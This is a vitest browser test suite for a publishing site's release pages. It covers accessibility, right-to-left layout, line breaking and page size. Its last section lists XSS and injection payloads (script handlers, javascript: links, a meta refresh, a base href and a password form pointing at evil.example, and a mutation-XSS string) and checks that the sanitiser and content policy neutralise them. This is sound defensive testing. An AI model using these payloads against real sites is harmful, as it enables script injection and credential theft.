import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { brotliCompressSync, constants } from 'node:zlib';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { canonicalTag, engineCodes } from '../../../../contracts/locales.ts';
import { releasePage } from '../../../../core/publication/pages/release-page.ts';
import { stylesheet, stylesheetKey } from '../../../../core/publication/pages/stylesheet.ts';
import { group } from '../../../support/group.ts';
import { sampleOf } from '../../../support/runs.ts';
import { launch, open, overflow } from './support/browser.ts';
import { releasePageOf } from './support/pages.ts';
import { bodyOf, samples, withManyLanguages } from './support/samples.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
/** With what is only asked for by name: targets of 24 pixels are of WCAG 2.2. */
const audit = `axe.run(document, { rules: { 'target-size': { enabled: true } } }).then(({ violations }) =>
  violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => id + ': ' + html.slice(0, 160))))`;

const { describe, programs } = await group('browser');
let browser: Awaited<ReturnType<typeof launch>>;
let site: Awaited<ReturnType<typeof open>>;

beforeAll(async () => {
  browser = await launch(programs.browser);
  site = await open(browser);
});
afterAll(() => browser?.close());

describe('for readers of every kind', () => {
  const views = [
    { width: 360, colorScheme: 'light' },
    { width: 1280, colorScheme: 'light' },
    { width: 1280, colorScheme: 'dark' },
    { width: 360, colorScheme: 'dark' },
  ] as const;
  const pages = ['en', 'ar', 'ja'].flatMap((tag) =>
    Object.entries(samples(tag)).map(([kind, html]) => ({ kind, tag, html })),
  );

  test.each(sampleOf(pages, 2))('$kind in $tag', async ({ html }) => {
    const { page, show } = site;
    await show(html);
    await page.evaluate(axe);
    for (const { width, colorScheme } of sampleOf(views, 2)) {
      await page.setViewportSize({ width, height: 800 });
      await page.emulateMedia({ colorScheme });
      expect(await page.evaluate(audit), `${width} ${colorScheme}`).toEqual([]);
      expect(await overflow(page), `${width} ${colorScheme}`).toBe(0);
    }
  });

  const documents = [
    ['markdown', 'examples/river-ferry.md'],
    ['html', 'examples/harvest-fair.html'],
    ['text', 'examples/observatory.txt'],
    ['vtt', 'tests/core/support/documents/lock-keepers.vtt'],
    ['json', 'tests/core/support/documents/catalogue.json'],
  ] as const;
  test.each(sampleOf(documents, 1))('the page of a release in %s, %s', async (format, path) => {
    const { page, show } = site;
    const body = bodyOf(format, readFileSync(path, 'utf8'), 'Title');
    await page.setViewportSize({ width: 360, height: 800 });
    await show(releasePage(releasePageOf({ language: 'en', body })));
    await page.evaluate(axe);
    expect(await page.evaluate(audit)).toEqual([]);
    expect(await overflow(page)).toBe(0);
  });

  test('what would keep some out is found', async () => {
    await site.show(
      '<!doctype html><html><body><p style="color:#999">x</p><img src="x"><a href="/y"></a></body></html>',
    );
    await site.page.evaluate(axe);
    const found = JSON.stringify(await site.page.evaluate(audit));
    for (const rule of ['html-has-lang', 'image-alt', 'link-name', 'document-title']) expect(found).toContain(rule);
  });

  test('a phone shows the text of a release with all languages before it scrolls', async () => {
    const { page, show } = site;
    await page.setViewportSize({ width: 360, height: 740 });
    await show(withManyLanguages(engineCodes.map((code) => canonicalTag(code) ?? code)));
    expect(await overflow(page)).toBe(0);
    expect(await page.evaluate("document.querySelector('h1').getBoundingClientRect().top")).toBeLessThan(500);
  });
});

describe('text from right to left', () => {
  const arabic = () => samples('ar')['release'] ?? '';
  /** Where each character of a text stands, from left to right: how it reads on the screen. */
  const onScreen = (text: string) => `(() => {
    const walker = document.createTreeWalker(document.querySelector('article'), NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const start = node.data.indexOf(${JSON.stringify(text)});
      if (start === -1) continue;
      const range = document.createRange();
      const placed = [...${JSON.stringify(text)}].map((character, index) => {
        range.setStart(node, start + index);
        range.setEnd(node, start + index + 1);
        const { left, top } = range.getBoundingClientRect();
        return { character, left, top };
      });
      return placed.sort((a, b) => a.top - b.top || a.left - b.left).map(({ character }) => character).join('');
    }
  })()`;

  test.each(['+44 20 7946 0958', 'ferry@example.org', 'https://ferry.example.org/tickets?from=northgate&to=millbank'])(
    'leaves %s as it is read',
    async (span) => {
      const { page, show } = site;
      await page.setViewportSize({ width: 1280, height: 800 });
      await show(arabic());
      expect(await page.evaluate(onScreen(span))).toBe(span);
      const [number] = span.split(/(?<=8)$/);
      if (number !== '+44 20 7946 0958') return;
      await show(arabic().replaceAll(/<bdi[^>]*>|<\/bdi>/g, '')); // and would not without its element
      expect(await page.evaluate(onScreen(span))).not.toBe(span);
    },
  );

  test('mirrors the page', async () => {
    const { page, show } = site;
    await page.setViewportSize({ width: 1280, height: 800 });
    const edges = `[...document.querySelectorAll('.home, h1, .notice, th')].map((element) => {
      const { left, right } = element.getBoundingClientRect();
      const style = getComputedStyle(element);
      return { name: element.className || element.tagName, left, right, mark: style.borderRightWidth !== style.borderLeftWidth };
    })`;
    type Edge = { left: number; right: number };
    await show(arabic());
    const mirrored = (await page.evaluate(edges)) as Edge[];
    await show(arabic().replace('dir="rtl"', 'dir="ltr"'));
    const straight = (await page.evaluate(edges)) as Edge[];
    for (const [index, { left, right }] of straight.entries()) {
      expect(mirrored[index]?.left).toBeCloseTo(1280 - right, 0);
      expect(mirrored[index]?.right).toBeCloseTo(1280 - left, 0);
    }
  });

  test('is not slanted, nor is any of Chinese, Japanese and Korean', async () => {
    for (const tag of ['ar', 'ja', 'zh-Hans', 'ko', 'fa', 'he']) {
      await site.show(releasePage(releasePageOf({ language: tag, body: '<h1>x</h1><p><em>y</em></p>' })));
      expect(await site.page.evaluate("getComputedStyle(document.querySelector('em')).fontStyle"), tag).toBe('normal');
    }
    await site.show(releasePage(releasePageOf({ language: 'fr', body: '<h1>x</h1><p><em>y</em></p>' })));
    expect(await site.page.evaluate("getComputedStyle(document.querySelector('em')).fontStyle")).toBe('italic');
  });
});

describe('lines', () => {
  test('break as each language has them break', async () => {
    const style = async (language: string, property: string) => {
      await site.show(releasePage(releasePageOf({ language })));
      return site.page.evaluate(`getComputedStyle(document.querySelector('article p'))['${property}']`);
    };
    expect(await style('ja', 'lineBreak')).toBe('strict');
    expect(await style('zh-Hant', 'lineBreak')).toBe('strict');
    expect(await style('ko', 'wordBreak')).toBe('keep-all');
    expect(await style('en', 'lineBreak')).toBe('auto');
  });
});

describe('what a page costs', () => {
  /** As CloudFront compresses: Brotli, at a level that is quick. */
  const transferred = (text: string) =>
    brotliCompressSync(text, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } }).byteLength;
  const release = readFileSync('examples/river-ferry.md', 'utf8');

  test('is under 30 KB with its stylesheet, and one request before it shows', async () => {
    for (const language of ['en', 'ar', 'ja']) {
      const languages = engineCodes
        .slice(0, 12)
        .map((code) => ({ language: canonicalTag(code) ?? code, title: 'A title of the usual length', indexed: true }));
      const body = bodyOf('markdown', release, 'Title');
      const html = releasePage(releasePageOf({ language, languages, body }));
      expect(transferred(html) + transferred(stylesheet)).toBeLessThan(30 * 1024);
      await site.show(html);
      expect(site.requests).toEqual([
        { url: 'https://news.example/page/', type: 'document' },
        { url: `https://news.example/${stylesheetKey}`, type: 'stylesheet' },
      ]);
    }
  });

  test('is under 30 KB for any page of a list', () => {
    for (const [kind, html] of Object.entries(samples('hi')))
      expect(transferred(html) + transferred(stylesheet), kind).toBeLessThan(30 * 1024);
  });
});

describe('what an upload brings, opened as a page', () => {
  const attacks = [
    '<script>document.title = "owned"</script>',
    '<img src="x" onerror="document.title = \'owned\'">',
    '<svg onload="document.title = \'owned\'"><script>document.title = "owned"</script></svg>',
    '<a id="attack" href="javascript:void(document.title = \'owned\')">a</a>',
    '<style>body { display: none }</style><p style="position:fixed;inset:0">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button id="attack">a</button></form>',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
    '<template><script>document.title = "owned"</script></template><math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ];
  /** What a page has done once it is loaded, all that can be clicked is clicked and two frames are drawn. */
  async function outcome({ page, show, requests }: typeof site, html: string) {
    await show(html);
    await page.evaluate("document.querySelector('[href^=javascript], #attack, #release-attack')?.click()");
    await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))');
    return {
      title: await page.title(),
      url: page.url(),
      shown: await page.evaluate("getComputedStyle(document.body).display !== 'none'"),
      foreign: requests.filter(({ url }) => url.includes('evil.example')),
    };
  }
  const inert = { title: 'Title', url: 'https://news.example/page/', shown: true, foreign: [] };

  test.each(sampleOf(attacks, 2))('is inert in HTML and in Markdown: %s', async (attack) => {
    for (const format of ['html', 'markdown'] as const) {
      const text = format === 'html' ? `<h1>Title</h1><p>Text</p>${attack}` : `# Title\n\nText\n\n${attack}\n`;
      const html = releasePage(releasePageOf({ title: 'Title', body: bodyOf(format, text, 'Title') }));
      expect(await outcome(site, html), format).toEqual(inert);
    }
  });

  // A refresh is no script: that none comes through is the sanitiser's alone.
  test.each(
    sampleOf(
      attacks.filter((attack) => !attack.includes('refresh')),
      3,
    ),
  )('is inert by the policy alone, were it let through: %s', async (attack) => {
    const html = releasePage(releasePageOf({ title: 'Title', body: `<h1>Title</h1>${attack}` }));
    const window = await open(browser);
    const { title, shown, foreign } = await outcome(window, html);
    // Chromium may show its own page in place of a form's target.
    expect({ owned: title === 'owned', shown, foreign }).toEqual({ owned: false, shown: true, foreign: [] });
    await window.close();
  });

  test('would not be inert without either', async () => {
    const window = await open(browser, {});
    const show = (attack: string | undefined) =>
      outcome(window, releasePage(releasePageOf({ title: 'Title', body: `<h1>Title</h1>${attack}` })));
    for (const attack of attacks.slice(0, 4)) expect((await show(attack)).title).toBe('owned');
    expect((await show(attacks[4])).shown).toBe(false);
    await window.close();
  });
});
